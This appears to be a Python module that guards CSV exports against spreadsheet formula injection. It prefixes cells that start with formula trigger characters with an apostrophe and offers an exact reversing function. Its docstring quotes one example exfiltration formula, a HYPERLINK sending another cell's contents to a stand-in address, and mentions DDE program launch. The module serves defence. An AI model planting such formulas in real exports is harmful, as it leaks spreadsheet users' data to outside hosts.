"""CSV cells that a spreadsheet opens as data, never as a formula, and that read back unchanged.

Rule: OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection), as also
required by OWASP ASVS 5.0 requirement 1.2.10. Excel, LibreOffice Calc and Google Sheets take
a cell whose text begins with ``=``, ``+``, ``-`` or ``@`` for a formula, and one beginning
with a tab or a carriage return may become one once the spreadsheet trims it; a formula can
send other cells of the sheet to an outside address (``=HYPERLINK("http://x?d="&A2, "Klik")``)
or start a program (DDE). So every text cell beginning with one of those characters is
written with a leading apostrophe, which spreadsheets show as "this is text" and do not keep
as part of the value. The csv module quotes cells holding the separator, a quote or a line
break and doubles every double quote (RFC 4180 sections 2.6 and 2.7), so a cell cannot end
early and start another one.

Numbers (``int``, ``float``, ``Decimal``) are written as numbers and never prefixed: a
negative number in a numeric column is a number, not a formula.

Reading back: the apostrophe is also added to text that already begins with apostrophes
followed by one of those characters (``'=x`` is written ``''=x``), and :func:`unguard`
removes exactly one apostrophe from any cell of that shape. So ``unguard(guard(t)) == t``
for every text ``t``, and a cell without that shape is read as it stands.

Units: none (text in, text out).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Callable, Iterable
from decimal import Decimal
from typing import Any, Final, Protocol

__all__ = ["TRIGGERS", "CsvWriter", "format_number", "guard", "needs_guard", "unguard"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
TRIGGERS: Final = "=+-@\t\r"
_GUARDED = re.compile("'*[" + re.escape(TRIGGERS) + "]")
_FIRST: Final = frozenset(TRIGGERS + "'")

Cell = str | int | float | Decimal | None


def needs_guard(text: str) -> bool:
    """Does ``text`` begin (after any apostrophes) with a formula trigger?"""
    return bool(text) and text[0] in _FIRST and _GUARDED.match(text) is not None


def guard(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet shows as text."""
    return "'" + text if needs_guard(text) else text


def unguard(text: str) -> str:
    """The text :func:`guard` was given (a cell that was not guarded comes back unchanged)."""
    if text.startswith("'") and needs_guard(text[1:]):
        return text[1:]
    return text


def format_number(value: int | float | Decimal) -> str:
    return repr(value) if isinstance(value, float) else str(value)


class _Target(Protocol):
    def write(self, value: str, /) -> Any: ...


class CsvWriter:
    """``csv.writer`` whose text cells are guarded and whose numbers stay numbers.

    ``writerow`` returns what ``target.write`` returns, so a target that echoes its argument
    yields the lines one by one (for streaming responses). ``number`` formats numbers.
    """

    def __init__(
        self,
        target: _Target,
        *,
        lineterminator: str = "\r\n",
        number: Callable[[Any], str] = format_number,
    ) -> None:
        self._writer = csv.writer(target, lineterminator=lineterminator)
        self._number = number

    def cells(self, values: Iterable[Cell]) -> list[str]:
        out: list[str] = []
        for value in values:
            if value is None:
                out.append("")
            elif isinstance(value, int | float | Decimal) and not isinstance(value, bool):
                out.append(self._number(value))
            else:
                out.append(guard(str(value)))
        return out

    def writerow(self, values: Iterable[Cell]) -> Any:
        return self._writer.writerow(self.cells(values))

    def writerows(self, rows: Iterable[Iterable[Cell]]) -> None:
        for row in rows:
            self.writerow(row)
